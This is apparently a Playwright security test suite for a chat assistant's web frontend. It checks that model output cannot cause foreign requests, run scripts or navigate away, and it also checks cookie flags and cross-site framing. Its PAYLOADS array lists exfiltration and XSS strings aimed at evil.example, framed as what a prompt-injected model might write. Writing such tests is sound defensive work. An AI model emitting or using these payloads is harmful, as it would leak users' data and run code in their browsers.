import { expect, test } from "./fixtures.ts";
import { ChatPage } from "./support/chat-page.ts";
import { recordForeignRequests } from "./support/foreign-requests.ts";

const EVIL = "https://evil.example";

/** What a model under prompt injection might write to exfiltrate data or run code in the page. */
const PAYLOADS = [
  `![secret](${EVIL}/a.png?q=secret)`,
  `![][ref]\n\n[ref]: ${EVIL}/b.png`,
  `<img src="${EVIL}/c.png" onerror="fetch('${EVIL}/d')">`,
  `<iframe src="${EVIL}/e"></iframe><object data="${EVIL}/f"></object><embed src="${EVIL}/g">`,
  `<svg><image href="${EVIL}/h.svg"/><use href="${EVIL}/i.svg#x"/></svg>`,
  `<video poster="${EVIL}/j.png"><source src="${EVIL}/k.mp4"></video>`,
  `<link rel="stylesheet" href="${EVIL}/l.css"><style>@import url(${EVIL}/m.css)</style>`,
  `<div style="background:url(${EVIL}/n.png)">x</div>`,
  `<script src="${EVIL}/o.js"></script><script>document.title = "taken"</script>`,
  `<form action="${EVIL}/p"><input autofocus onfocus="this.form.submit()"></form>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/q">`,
  `<base href="${EVIL}/">`,
  "[press me](javascript:document.title='taken')",
  "[and me](data:text/html,<script>document.title='taken'</script>)",
  `\`\`\`mermaid\ngraph TD; A[<img src=${EVIL}/r.png>]\n\`\`\``,
  `$$\\includegraphics{${EVIL}/s.png}$$`,
  `![x](//evil.example/t.png) ![y](\\\\evil.example\\u.png)`,
  `<picture><source srcset="${EVIL}/v.png"><img srcset="${EVIL}/w.png 2x"></picture>`,
];

test("a model's output can't make the browser send requests elsewhere, run code or navigate", async ({
  page,
  login,
  baseURL,
  consoleErrors,
}) => {
  test.setTimeout(120_000);
  consoleErrors.allow(/Content Security Policy/);
  await login("carol");
  const foreign = recordForeignRequests(page, new URL(baseURL ?? "").origin);
  const script = `script:\n${JSON.stringify([`Here you are.\n\n${PAYLOADS.join("\n\n")}\n\nThat was all.`])}`;
  await new ChatPage(page).ask(script);
  await expect(page.getByText("That was all.", { exact: true })).toBeVisible({ timeout: 60_000 });
  await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
  await page.reload();
  await expect(page.getByText("That was all.", { exact: true })).toBeVisible();

  expect(foreign).toEqual([]);
  expect(await page.title()).not.toContain("taken");
  expect(new URL(page.url()).origin).toBe(new URL(baseURL ?? "").origin);
  const inert = await page
    .getByRole("main")
    .locator(
      "iframe, object, embed, form[action*='evil'], script, base, [onerror], [onfocus], a[href^='javascript:']",
    );
  await expect(inert).toHaveCount(0);
});

test("the page works under its policy: Chromium reports no violation", async ({ page, login }) => {
  // A violation is a console error, which fails the test by the fixture.
  await login("carol");
  await new ChatPage(page).ask("Hello");
  await expect(page.getByText(/I act on GitHub/).first()).toBeVisible();
});

test("the session cookie is inaccessible to scripts and other sites", async ({ page, login, context }) => {
  await login("carol");
  const cookie = (await context.cookies()).find(({ name }) => name === "obo-session");
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Lax", path: "/" });
  expect(await page.evaluate(() => document.cookie)).not.toContain("obo-session");
});

test("a page of another site can neither frame the app, nor post to it, nor read from it", async ({
  page,
  login,
  baseURL,
  consoleErrors,
}) => {
  consoleErrors.allow(/./);
  await login("carol");
  await page.route(`${EVIL}/**`, (route) =>
    route.fulfill({ contentType: "text/html", body: "<h1>Evil</h1>" }),
  );
  await page.goto(`${EVIL}/`);
  const outcome = await page.evaluate(async (app) => {
    const attempt = async (init: RequestInit) =>
      fetch(`${app}/api/langgraph/threads/search`, { credentials: "include", ...init }).then(
        (answer) => `read ${answer.status}`,
        () => "refused",
      );
    const frame = document.createElement("iframe");
    frame.src = `${app}/chat`;
    document.body.append(frame);
    await new Promise((resolve) => {
      frame.onload = resolve;
    });
    return {
      post: await attempt({ method: "POST", headers: { "content-type": "application/json" }, body: "{}" }),
      simplePost: await attempt({ method: "POST", body: "{}" }),
      get: await attempt({ method: "GET" }),
    };
  }, baseURL);
  expect(outcome).toEqual({ post: "refused", simplePost: "refused", get: "refused" });
  const framed = page.frames().find((frame) => frame.url().startsWith(baseURL ?? "none"));
  expect(framed).toBeUndefined();
});

test("a page of another site that opens the app has no reference to its window", async ({
  page,
  login,
  context,
  baseURL,
}) => {
  await login("carol");
  await page.route(`${EVIL}/**`, (route) =>
    route.fulfill({ contentType: "text/html", body: "<h1>Evil</h1>" }),
  );
  await page.goto(`${EVIL}/`);
  const opening = context.waitForEvent("page");
  const opened = await page.evaluateHandle((address) => window.open(address), `${baseURL}/chat`);
  const app = await opening;
  await expect(app.getByRole("textbox", { name: "Message" })).toBeVisible();
  // To the page that opened it, the window looks closed.
  expect(await opened.evaluate((held) => held?.closed)).toBe(true);
  expect(await app.evaluate(() => window.opener)).toBeNull();
});
